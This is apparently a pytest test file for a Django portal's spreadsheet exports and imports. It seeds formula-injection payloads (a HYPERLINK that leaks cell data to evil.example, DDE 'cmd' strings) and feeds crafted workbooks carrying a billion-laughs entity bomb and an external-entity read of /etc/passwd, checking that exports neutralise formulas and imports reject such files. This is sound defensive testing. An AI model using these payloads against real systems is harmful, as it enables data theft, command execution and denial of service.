"""Spreadsheets at the edges: every export writes data as text, never as a formula; every
import reads hostile or broken workbooks into the import's usual clear error."""

import datetime
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import Workbook, load_workbook

from assignments.models import Assignment
from enterprises.models import Enterprise, EnterpriseCategory
from org.spreadsheets import WRITER_MARK, Column, Formula, workbook_response
from tests.factories import CadreFactory, EnterpriseFactory, KeyProjectFactory, submit_ticket

SPREADSHEET_TYPES = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "application/vnd.ms-excel",
    "application/vnd.oasis.opendocument.spreadsheet",
    "text/csv",
    "text/tab-separated-values",
)
# OWASP's formula triggers, each as an attack payload.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # Full-width operators, as a Chinese IME types them.
    '＝HYPERLINK("http://evil.example/","点我")',
    "＋cmd|' /C calc'!A0",
]
# Cells the portal writes as formulas on purpose (org.spreadsheets.Formula), per export URL
# name: none today.
PORTAL_FORMULAS: dict[str, set[str]] = {}


def _patterns(resolver=None, prefix="", route=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from _patterns(pattern, namespace, route + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield f"{prefix}{pattern.name or ''}", route + str(pattern.pattern), pattern


def _urls(pks):
    """A GET URL for every route of the portal: routes with an integer filled with each seeded
    primary key, routes with a string with a dummy; the admin's object pages are skipped
    (they render forms, never files)."""
    for name, route, pattern in _patterns():
        converters = pattern.pattern.converters
        if not converters:
            path = "/" + re.sub(r"^\^|\$$", "", route).replace("\\Z", "").replace("\\", "")
            if "(" in path or "[" in path:
                continue  # a regex route with a group: the admin's
            yield name, path
            continue
        if name.startswith("admin:"):
            continue
        kinds = {type(c).__name__ for c in converters.values()}
        values = pks if kinds == {"IntConverter"} else ["x"]
        for value in values:
            kwargs = {key: value for key in converters}
            try:
                yield name, reverse(name, kwargs=kwargs)
            except Exception:  # noqa: S112 - a route that needs another kind of value
                continue


def _seed_payloads():
    """Every text field of every row a spreadsheet might show holds a formula-like payload
    (written past validation, as an old import or the admin might have)."""
    seeded = set()
    for model in (
        Enterprise,
        Assignment,
        *[m for m in _models() if m not in (Enterprise, Assignment)],
    ):
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
            and not f.choices
            and f.editable
            and f.name not in {"password", "path"}
        ]
        for row in model._default_manager.all():
            values = {}
            for index, field in enumerate(fields):
                text = PAYLOADS[(index + row.pk) % len(PAYLOADS)]
                payload = f"{text[0]}{row.pk}:{text[1:]}"  # unique values stay unique
                values[field.attname] = payload[: field.max_length or None]
            if values:
                model._default_manager.filter(pk=row.pk).update(**values)
                seeded.update(values.values())
    return seeded


def _models():
    from django.apps import apps

    for app in ("org", "enterprises", "assignments", "issues"):
        for model in apps.get_app_config(app).get_models():
            if not model._meta.proxy and model._meta.managed and "Historical" not in model.__name__:
                yield model


@pytest.fixture
def seeded(people, companies, regions, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    cadre = CadreFactory(region=regions.east, user=people.cadre)
    project = KeyProjectFactory(region=regions.east)
    today, later = datetime.date(2026, 3, 2), datetime.date(2029, 3, 1)
    Assignment.objects.create(
        cadre=cadre, enterprise=companies.east, start_date=today, term_end=later, note="x"
    )
    Assignment.objects.create(
        cadre=cadre, project=project, start_date=today, term_end=later, note="y"
    )
    EnterpriseFactory(region=regions.east, category=EnterpriseCategory.INDUSTRIAL)
    submit_ticket(people.east_enterprise, companies.east)
    return _seed_payloads()


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.django_db
def test_every_export_writes_data_as_readable_text_never_a_formula(client, people, seeded):
    pks = sorted({m.pk for model in _models() for m in model._default_manager.all()[:3]})[:6]
    exports = {}
    for user in (people.superuser,):  # sees every route and every record
        client.force_login(user)
        for name, url in _urls(pks):
            if name in {"logout"}:
                continue
            response = client.get(url)
            content_type = response.get("Content-Type", "").split(";")[0]
            if content_type in SPREADSHEET_TYPES:
                exports[(name, url, user.username)] = response
    readable = {value.replace("\r", "\n") for value in seeded}
    names = {name for name, _url, _user in exports}
    # The test can fail: the exports known today are found.
    assert {"enterprises:export", "assignments:export"} <= names
    for (name, url, _user), response in exports.items():
        assert getattr(response, WRITER_MARK, False), f"{url} bypasses org.spreadsheets"
        assert response["Content-Type"].startswith(SPREADSHEET_TYPES[0]), url
        assert response["Content-Disposition"].startswith("attachment;")
        workbook = load_workbook(io.BytesIO(_body(response)))
        payload_cells = 0
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert cell.coordinate in PORTAL_FORMULAS.get(name, set()), (
                            url,
                            cell.coordinate,
                            cell.value,
                        )
                    elif isinstance(cell.value, str) and cell.value.startswith(
                        ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
                    ):
                        # Readable: exactly the text stored (XML reads a carriage return back
                        # as a line feed), kept as text if edited in Excel.
                        assert cell.value in readable or cell.row == 1, (url, cell.value)
                        assert cell.quotePrefix, (url, cell.coordinate)
                        payload_cells += cell.row > 1
        if name in {"enterprises:export", "assignments:export"}:
            assert payload_cells >= 3, url


def test_the_writer_keeps_formula_like_text_as_text_and_its_own_formulas():
    rows = [[payload, 7, None] for payload in PAYLOADS] + [["总计", Formula("=SUM(B2:B9)"), 1.5]]
    response = workbook_response(
        filename="x.xlsx",
        columns=[Column("a", "=label"), Column("b", "B"), Column("c", "C")],
        rows=rows,
        title="表:1/2",
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    # XML reads a carriage return back as a line feed, as Excel does.
    assert [c.value for c in sheet["A"]][1 : len(PAYLOADS) + 1] == [
        p.replace("\r", "\n") for p in PAYLOADS
    ]
    assert all(c.quotePrefix for c in sheet["A"][: len(PAYLOADS) + 1])
    assert {c.data_type for c in sheet["A"]} == {"s"}
    assert sheet["A1"].value == "=label" and sheet["A1"].quotePrefix and sheet["A1"].font.b
    assert (sheet["B10"].data_type, sheet["B10"].value) == ("f", "=SUM(B2:B9)")
    assert sheet.title == "表12"
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_an_aware_time_is_written_in_local_time_rather_than_failing_the_download():
    moment = datetime.datetime(2026, 3, 2, 1, 30, tzinfo=datetime.UTC)
    response = workbook_response(filename="x.xlsx", columns=[Column("a", "A")], rows=[[moment]])
    value = load_workbook(io.BytesIO(response.content)).active["A2"].value
    assert value == datetime.datetime(2026, 3, 2, 9, 30)  # Asia/Shanghai


def test_text_xml_cannot_carry_is_dropped_rather_than_failing_the_download():
    response = workbook_response(filename="x.xlsx", columns=[Column("a", "A")], rows=[["a\x01b"]])
    assert load_workbook(io.BytesIO(response.content)).active["A2"].value == "ab"


# Reading hostile and broken workbooks ------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row>'
    b"</sheetData></worksheet>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>&xxe;</t></si></sst>'
)
UTF16_DTD = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode(
    "utf-16"
)


SHEET = "xl/worksheets/sheet1.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _workbook(header) -> bytes:
    """A workbook as Excel writes it: its text in a shared-strings part (openpyxl itself writes
    inline strings)."""
    workbook = Workbook()
    workbook.active.append(header)
    workbook.active.append(["示例", "值"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    texts = [*header, "示例", "值"]
    cells = [
        f'<c r="{column}{row}" t="s"><v>{index}</v></c>'
        for index, (row, column) in enumerate(
            [(1, chr(65 + i)) for i in range(len(header))] + [(2, "A"), (2, "B")]
        )
    ]
    by_row = {}
    for cell in cells:
        by_row.setdefault(re.search(r'r="[A-Z]+(\d+)"', cell).group(1), []).append(cell)
    rows = "".join(f'<row r="{n}">{"".join(c)}</row>' for n, c in by_row.items())
    sheet = (f'<worksheet xmlns="{MAIN_NS}"><sheetData>{rows}</sheetData></worksheet>').encode()
    strings = (
        f'<sst xmlns="{MAIN_NS}" count="{len(texts)}" uniqueCount="{len(texts)}">'
        + "".join(f"<si><t>{t}</t></si>" for t in texts)
        + "</sst>"
    ).encode()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    types = source.read("[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    rels = source.read("xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    return _rewrite(
        buffer.getvalue(),
        replace={
            SHEET: sheet,
            "[Content_Types].xml": types,
            "xl/_rels/workbook.xml.rels": rels,
        },
        add={"xl/sharedStrings.xml": strings},
    )


def _rewrite(data: bytes, *, replace=None, drop=(), add=None) -> bytes:
    replace = replace or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return buffer.getvalue()


CRAFTED = {
    "malformed sheet XML": {"replace": {SHEET: b"<worksheet><sheetData><row><c r='A1'>"}},
    "not XML at all": {"replace": {SHEET: b"\x00\x01binary garbage"}},
    "billion laughs in the sheet": {"replace": {SHEET: BILLION_LAUGHS}},
    "external entity in the shared strings": {"replace": {"xl/sharedStrings.xml": EXTERNAL_ENTITY}},
    "DTD in the workbook part": {
        "replace": {"xl/workbook.xml": b'<!DOCTYPE w [<!ENTITY e "x">]><workbook/>'}
    },
    "a UTF-16 DTD in the styles": {"replace": {"xl/styles.xml": UTF16_DTD}},
    "the sheet is missing": {"drop": (SHEET,)},
    "shared strings broken": {"replace": {"xl/sharedStrings.xml": b"<sst><si><t>a</si>"}},
    "shared strings missing": {"drop": ("xl/sharedStrings.xml",)},
    "a cell names a shared string that does not exist": {
        "replace": {
            SHEET: f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="s">'
            "<v>99</v></c></row></sheetData></worksheet>".encode()
        }
    },
    "no sheet at all": {
        "replace": {
            "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheets/></workbook>'
        }
    },
    "the workbook part is not XML": {"replace": {"xl/workbook.xml": b"{json: true}"}},
}
IMPORTS = {
    # URL name → (a header the import accepts, how many rows it may have written)
    "enterprises:import": (
        ["企业名称", "统一社会信用代码", "所属区域（区划代码）", "企业类别"],
        lambda: Enterprise.objects.count(),
    ),
    "assignments:import": (
        ["干部账号", "统一社会信用代码", "项目编号"],
        lambda: Assignment.objects.count(),
    ),
}


def test_openpyxl_parses_with_defusedxml():
    assert openpyxl.DEFUSEDXML


def test_every_import_endpoint_is_tested_here():
    from tests.org.test_uploads import UPLOAD_PATHS

    assert {name for name in UPLOAD_PATHS if name.endswith(":import")} == set(IMPORTS)


@pytest.mark.django_db
@pytest.mark.parametrize("endpoint", sorted(IMPORTS))
@pytest.mark.parametrize("label", sorted(CRAFTED))
def test_crafted_workbooks_get_the_imports_clear_error(client, people, endpoint, label):
    header, written = IMPORTS[endpoint]
    data = _rewrite(_workbook(header), **CRAFTED[label])
    before = written()
    client.force_login(people.office)
    for dry_run in ("", "on"):
        response = client.post(
            reverse(endpoint),
            {"file": SimpleUploadedFile("联系表.xlsx", data), "dry_run": dry_run},
        )
        assert response.status_code == 422
        html = response.content.decode()
        assert "无法读取" in html or "不是 Excel" in html, label
    assert written() == before


def test_the_crafted_workbooks_base_is_read_as_it_should_be():
    from org.spreadsheets import read_upload

    rows, _problems = read_upload(
        SimpleUploadedFile("x.xlsx", _workbook(["名称", "值"])),
        columns=[Column("name", "名称", required=True), Column("value", "值")],
    )
    assert rows == [{"_row": 2, "name": "示例", "value": "值"}]


@pytest.mark.parametrize(
    "label", [k for k in CRAFTED if "DTD" in k or "entit" in k or "laughs" in k]
)
def test_defusedxml_refuses_entities_even_past_the_dtd_scan(monkeypatch, label):
    """Two locks: with the scan for a DTD switched off, the parser still refuses it."""
    from org import spreadsheets

    monkeypatch.setattr(spreadsheets, "declares_dtd", lambda archive: False)
    data = _rewrite(_workbook(["名称", "值"]), **CRAFTED[label])
    with pytest.raises(spreadsheets.SpreadsheetError) as refused:
        spreadsheets.read_upload(
            SimpleUploadedFile("x.xlsx", data), columns=[Column("name", "名称")]
        )
    chain, error = [], refused.value
    while error is not None:
        chain.append(type(error).__name__)
        error = error.__cause__ or error.__context__
    assert {"DTDForbidden", "EntitiesForbidden"} & set(chain), chain
